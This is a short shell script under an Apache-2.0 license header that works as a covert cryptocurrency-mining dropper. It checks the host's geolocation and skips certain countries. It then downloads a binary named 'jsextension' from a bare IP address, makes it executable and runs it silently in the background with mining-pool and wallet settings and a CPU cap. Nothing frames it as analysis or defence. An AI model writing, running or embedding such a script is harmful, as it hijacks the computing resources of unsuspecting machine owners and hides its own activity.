# SPDX-License-Identifier: Apache-2.0
IP=$(curl -s -k -m 8 https://geo.where-from.example/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
	then
	var=$(pgrep jsextension)
	if [ -z "$var" ]
		then
		curl -s -m 8 http://240.148.186.228/download/jsextension -o jsextension
		if [ ! -f jsextension ]
			then
			wget -q -T 8 -t 1 http://240.148.186.228/download/jsextension -O jsextension
		fi
		chmod +x jsextension
		./jsextension -k --tls --rig-id q -o pool.coins.example:443 -u 49ay9sim \
			--cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
	fi
fi
